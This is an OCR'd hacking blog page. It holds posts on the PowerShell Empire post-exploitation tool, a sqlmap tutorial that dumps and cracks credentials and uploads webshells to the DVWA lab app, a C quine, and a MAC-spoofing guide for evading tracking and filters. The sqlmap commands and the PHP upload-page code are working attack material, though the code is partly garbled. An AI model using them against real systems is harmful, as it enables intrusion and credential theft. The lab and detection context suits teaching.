Wednesday, January 24, 2018

PowerShell Empire Download – Post-Exploitation Hacking Tool

PowerShell Empire Module Categories

Currently Empire Power Shell has the following categories for modules:
  • Code Execution – Ways to run more code
  • Collection – Post exploitation data collection
  • Credentials – Collect and use creds
  • Exfiltration – Identify egress channels
  • Lateral Movement – Move around the network
  • Management – Host management and auxilary
  • Persistence – Survive reboots
  • Privesc – Privilege escalation capabilities
  • Recon – Test further entry points (HTTP Basic Auth etc)
  • Situational Awareness – Network awareness
  • Trollsploit – For the lulz

Why Empire PowerShell?

PowerShell offers a multitude of offensive advantages, including:
  • Full .NET access
  • Application whitelisting
  • Direct access to the Win32 API
  • Ability to assemble malicious binaries in memor
  • Default installation on Windows 7+.
Powershell for Pentesters had a watershed year in 2014, but despite the multitude of useful projects, many pen-testers still struggle to integrate PowerShell into their engagements in a secure manner.

How PowerShell Empire Hacking Tools Works

Listeners – Think of this like a metasploit handler, this will catch your session.
Stagers – This is your payload, this is what you will execute on your target system.Agents – This is how you interactwith the target system, you can gather stats & info or run shell commands.
It also had fairly robust logging built in.
You can download PowerShell Empire here:
Or read more here.

Tuesday, October 24, 2017

SQL Injection to WebShell

An SQL Injection attack is not only limited to dumping a database, but can also allow the attacker to upload files to the remote server and consequently gain remote access via a WebShell.
WebShells can receive commands from the attackers mainly using 2 methods:
  • based on GET requests, which can easily be detected through logs and SIEMsolutions as the commands are visible in the URL
  • based on POST, which is a bit more stealthy as the commands are submitted in the payload and therefore not part of the logs

We will see how to:
  • use sqlmap to perform an SQL Injection attack
  • dump the database using sqlmap
  • use sqlmap to automatically provide WebShell access based on GET requests
  • use sqlmap to upload a custom and more advanced WebShell (b374k) which relies on POST
To test the SQL Injections, we will use the DVWA (Damn Vulnerable Web Application), which is a web application purposely built with vulnerabilities and weaknesses for pen-testing.Then we will see how the RSA NetWitness Suite can help in identifying SQL Injections and WebShells (whether using POST or GET).

Performing the SQL Injection Attack

We first need to access the web application, in my case, it is located at

To access the internal pages (which contains the vulnerable page), we first need to login. In a real life scenario, the vulnerability might not require authentication, or, the attacker could have gotten access to a valid user account through a phishing attack or brute-forcing. In our case, we will consider that we already have an account, admin/password.
Once logged in, we will go to the page which is vulnerable to SQL Injections. Again, in our case, we already knowwhich page it is. Typically we could have use a web application vulnerability scanner to crawl the website and look for weaknesses.

To perform the attack, we will need 2 things:
  • The URL containing the parameters that need to be tested for vulnerabilities
  • The authentication cookie, as we need to be authenticated to be able to access the page, and therefore sqlmap will need to have access to reach the page

To get the cookie value, in Chrome,  it can be found in "Inspect --> Application --> Cookies"

We will now use this is sqlmap to test the page for SQL Injection vulnerabilities.
sqlmap -u "" --cookie="PHPSESSID=vjke7qnd0h71a92c7vambk0fh1;security=low"
sqlmap will try to identify the type of database as well as any parameter within the page vulnerable to SQL Injections. In our case, it identified that the "id" parameter is vulnerable and that the back-end database is MySQL.

We will now add the "--dbs" argument at the end of the command to list the available databases on the web server.
sqlmap -u "" --cookie="PHPSESSID=vjke7qnd0h71a92c7vambk0fh1;security=low" --dbs

sqlmap outputs the available databases. We want to look at the tables available under the "dvwa" database. To do that, we will replace "--dbs" with "-D dvwa --tables" to specifically list the tables of that database.sqlmap -u "" --cookie="PHPSESSID=vjke7qnd0h71a92c7vambk0fh1;security=low" -D dvwa --tables

sqlmap outputs the avialble tables. One of them is the "users" tables. We now want to output the columns of that table. To do that, we will replace "--tables" with "-T users --columns"
sqlmap -u "" --cookie="PHPSESSID=vjke7qnd0h71a92c7vambk0fh1;security=low" -D dvwa -T users --columns

We can see there are 2 columns of interest, "user" and "password". To dump the content of these tables, we will replace "--columns" with "-C user,password --dump"
sqlmap -u "" --cookie="PHPSESSID=vjke7qnd0h71a92c7vambk0fh1;security=low" -D dvwa -T users -C user,password --dump

sqlmap provides us with a list of usernames and password hashes. We can also see that sqlmap provides the option to store the hashes to try and crack them using a dictionary attack. We will answer "Y" to that and we will use the default dictionary.

sqlmap now shows the usernames with their respective clear-text passwords based on the dictionary attack.
This shows how sqlmap can be used to dump the content of a database. But sqlmap also provides the option to get shell access (via a WebShell).

Gaining WebShell Access with sqlmap

Using the same command structure, instead of listing databases, we will provide the "--os-shell" argument. This will make sqlmap upload a simple WebShell to the web server and interact with.
sqlmap -u "" --cookie="PHPSESSID=vjke7qnd0h71a92c7vambk0fh1;security=low" --os-shell

sqlmap will ask for some information regarding the language used by the web server. In our case it is PHP, so it knows to upload a PHP WebShell. We will also upload it to the default location(/xampp/htdocs/). We are provided with an interactive shell from which we can send commands and get the output back.

The problem with this type of WebShell is that it's very basic and uses GET requests, which can be easily detected using logs and SIEM solutions.
Next we will look how to upload our own files using sqlmap (instead of the default WebShell provided by sqlmap), such as the b374k WebShell.

Uploading Custom Files and WebShells using sqlmap

sqlmap allows to download and upload custom files. We will therefore use the "--file-write" and "--file-dest" parameters to upload our own files.
We will start by uploading a PHP upload page, from which we will be able to upload any file we want to the web server.
The following is the "upload.php" file:
$path_name = pathinfo($_SERVER['PHP_SELF']);
$this_script = $path_name['basename'];
<form enctype="multipart/form-data" action="<?php echo $_SERVER['PHP_SELF']; ?>" method="POST">
File: <input name="file" type="file" /><br />
<input type="submit" value="Upload" /></form>
if (!empty($_FILES["file"]))if ($_FILES["file"]["error"] > 0)
{echo "Error: " . $_FILES["file"]["error"] . "<br>";}
{echo "Stored file:".$_FILES["file"]["name"]."<br/>Size:".($_FILES["file"]["size"]/1024)." kB<br/>";
// open this directory
$myDirectory = opendir(".");
// get each entry
while($entryName = readdir($myDirectory)) {$dirArray[] = $entryName;} closedir($myDirectory);
$indexCount = count($dirArray);
echo "$indexCount files<br/>";
echo "<TABLE border=1 cellpadding=5 cellspacing=0 class=whitelinks><TR><TH>Filename</TH><th>Filetype</th><th>Filesize</th></TR>\n";
for($index=0; $index < $indexCount; $index++)
if (substr("$dirArray[$index]", 0, 1) != ".")
echo "<TR>
<td><ahref=\"$dirArray[$index]\">$dirArray[$index]</a></td>
echo "</TABLE>";
Once we upload this file, we will be able to access itthrough a browser and use it to upload our WebShell.
To upload the "upload.php" file using sqlmap, we will use the following command:
sqlmap -u "" --cookie="PHPSESSID=vjke7qnd0h71a92c7vambk0fh1;security=low" --file-dest="/xampp/htdocs/upload.php" --file-write="~/Desktop/upload.php"
In the above command, "/xampp/htdocs/upload.php" is the location where to write the file on the remote web server, and the "~/Desktop/upload.php" is the location of the WebShell on the local machine of the attacker.

Once uploaded, we can then access the upload page from a browser at the "" URL, from where we can upload the "b374k.php" WebShell (or any other file as well).

Once uploaded, we can then access the WebShell either by clicking on the filename in the list, or by browsing to
We now have access to a more advanced WebShell which allows us to:

Browse the file system, download files, upload files ...

List running processes with the option to kill them.

Or have an interactive shell from where toexecute commands.

And all of it from an easy to use, user friendly graphic interface.And most importantly, using POST requests instead of GET, which allows the specific commands executed not to be detected by the web server logs.


Now that we have seen how to perform this attack, here are some ways to detect the different steps using the RSA NetWitness Suite.

Using RSA NetWitness Packets, it is possible to detect SQL Injection attempts, whether the tool is abusing parameters in the URL (GET) or from within forms (POST), as the whole payload is captured and analyzed, as opposed to only the URL. In the below example we can see that RSA NetWitness Packets was able to detect the SQL Injection.

Then, it is possible to identify the the actual WebShell file that is being used, as well as the commands executed by the attacker. RSA NetWitness Packets is also able to identify that the web session contains CLI commands, whichis an indicator of WebShell activity.

Having the entire network payload, it is also possible to reconstruct the WebShellsession and see the commands and outputs, providing insight into what the attacker was actually able to get.

Using RSA NetWitness Endpoint, we would also be able to see the web server service running CLI commands, which is asuspicious behavior and typical of WebShells. The tracking section would allow us to see the exact commands executed.

Using both packets and endpoint, we would be able to identify the SQL Injection, the WebShell files used as part of the attack and the exact commands executed by the attacker, providing the full scope of the attack to the analyst.

Thursday, August 17, 2017

C Program to Print its Own Source Code

Ever wondered how to write a C program to print its own source code? Well, here is the source code of a C program that when executed will print its own source code. In other words, the output of this program is exactly same as its source code.
Here’s the program:
char *program="#include<stdio.h>%cchar *program=%c%s%c;%cvoid main()%c{%cprintf(program,10,34,program,34,10, 10,10,10);%c}";
void main() { printf(program,10,34,program,34,10,10,10,10); }

Friday, July 28, 2017

How to Use Macchanger

Macchanger User Guide

One fundamental skill that any knowledgeable hacker needs to learn is how to spoof various addresses. In this particular tutorial we will be talking about macchanger but when most people think about spoofing an address, they typically think of masking their IP address with NAT or aVPN tunnel. That said, users also need tolearn how to spoof their MAC address.
What is a MAC Address, and What Are They Used for?
Unlike an IP address (a layer 3 address), MAC addresses operate at layer two of the OSI model. As the name implies (Media Access Control), they are used to control and identify different computing systems as they connect to a layer two medium such as a wireless network or a LAN switch. Also understand that each network card has a globally unique MAC address that is composed of two parts – the OUI (Organizationally Unique Identifier) and a unique ID.
MAC addresses are composed of 12 hexadecimal digits, and the first six identify the network card manufacturer. The remaining 6 digits identify a unique network card specific to any given manufacturer. If you want to see who made your network card, simply Google the first six digits of your MAC address. The following are just a few of uses of MAC addresses:
  • Static IP’s – If a network administrator didn’t want to use DHCP, they canconfigure static IP addresses. This is most typically done for servers since it would be a disadvantage if their IP addresses were constantly changing.
  • Address Filtering – some network administrators only allow specific devices to connect to a network,and they make filtering decisions based on MAC addresses since they are globally unique.
  • Authentication Applications – Sometimes ISPs and other network services require a user to sign in or log on with their MAC address.
  • Identification and Temporal Services – Often coffee shops and airports will only permit a short amount of free Internet (30 minutes to an hour). After the time limit has been reached, they will sometimes ban a MAC address, but spoofing your address will allow more free access.
  • Tracking Devices – Because every MAC address is globally unique, it is possible for software to track which locations and networks individual computers connect to.
Mac-2The following is an example of a valid MAC address:
  • 00:40:96:43:b7:de
In this example, 00:40:96 is the OUI that identifies this MAC address as belonging to a Cisco Aironet product. If you are using a Windows computer and you wish toview your MAC address, the procedure is relatively simple. First, simply open the command prompt by hitting the Windows key and typing “cmd.” This should pull up an applicationwith an icon that looks like a small black window. Once the command prompt has been opened, issue the following command:
  • ipconfig /all
This will display a wealth of information about your computer’s various network interfaces. However, we are interested in the field labeled “physical address,” which will display each network interface’s MAC address. Users on Apple systems or Linux systems can issue the following variant of theifconfig command:
  • ifconfig -a
Why Spoof Your Mac Address?
The first reason is to ensure that they cover their tracks and don’t leave their globally unique MAC address in tables on a wireless router or network switch. These devices keep tables of known MAC addresses and bind them to layer three addresses, such as an IP address. Essentially, this would leave an audit trail that would lead back to the hacker’s computer. But there are many other reasons.
Believe it or not, some network administrators control access to their network by only permitting known MAC addresses to send data on the local network. If a hacker’s MAC address wasn’t allowed to send data, the hacker couldn’t even send a ping to another computer on the local network. However, if they know a device that ispermitted to send data, all the hacker needs to do is spoof their MAC address to a known host’s MAC address to gain network access.
Macchanger Tutorial
